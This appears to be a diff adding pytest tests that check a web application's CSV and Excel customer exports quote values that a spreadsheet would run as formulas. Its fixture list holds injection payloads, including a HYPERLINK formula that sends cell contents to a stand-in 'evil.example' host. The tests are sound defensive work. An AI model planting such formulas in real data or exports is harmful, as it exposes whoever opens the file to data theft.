@@ -118,3 +118,52 @@ def test_an_export_never_started_by_the_client_releases_its_connection(
         response.close()
     assert app_engine.pool.checkedout() == 0
     assert idle_in_transaction(engine, app_engine) == []
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def planted(app, people) -> list[str]:
+    """A rep names customers so that a spreadsheet would run them; the names are stored as
+    typed."""
+    client = app.test_client()
+    token = client.post("/api/v1/auth/token", json={"username": "zhang", "password": PASSWORD})
+    zhang = ApiClient(client, token.get_json()["token"])
+    for name in FORMULAS:
+        response = zhang.post("/api/v1/objects/customer/records", json={"name": name})
+        assert response.status_code == 201, response.get_json()
+        assert zhang.get(f"/api/v1/objects/customer/records/{response.get_json()['id']}") \
+            .get_json()["name"] == name
+    return FORMULAS
+
+
+def exported_names(rows: list[list]) -> set:
+    column = rows[0].index("客户名称")
+    return {row[column] for row in rows[1:]}
+
+
+def test_a_csv_export_quotes_values_that_would_run_as_formulas(app, planted):
+    response = finance_api(app).get("/api/v1/objects/customer/export", buffered=True)
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert exported_names(rows) == {"'" + name for name in planted}
+
+
+def test_a_csv_export_from_the_list_page_quotes_values_that_would_run_as_formulas(
+        app, planted):
+    response = signed_in(app, "qian", PASSWORD).client.get("/o/customer/export?format=csv",
+                                                                    buffered=True)
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert exported_names(rows) == {"'" + name for name in planted}
+
+
+def test_an_excel_export_writes_values_that_would_run_as_formulas_as_quoted_text(
+        app, planted):
+    response = signed_in(app, "qian", PASSWORD).client.get("/o/customer/export?format=xlsx")
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    rows = [[c.value for c in row] for row in sheet.iter_rows()]
+    # XML reads a stored CR as a line feed
+    assert exported_names(rows) == {"'" + name.replace("\r", "\n") for name in planted}
+    column = rows[0].index("客户名称")
+    assert {row[column].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}
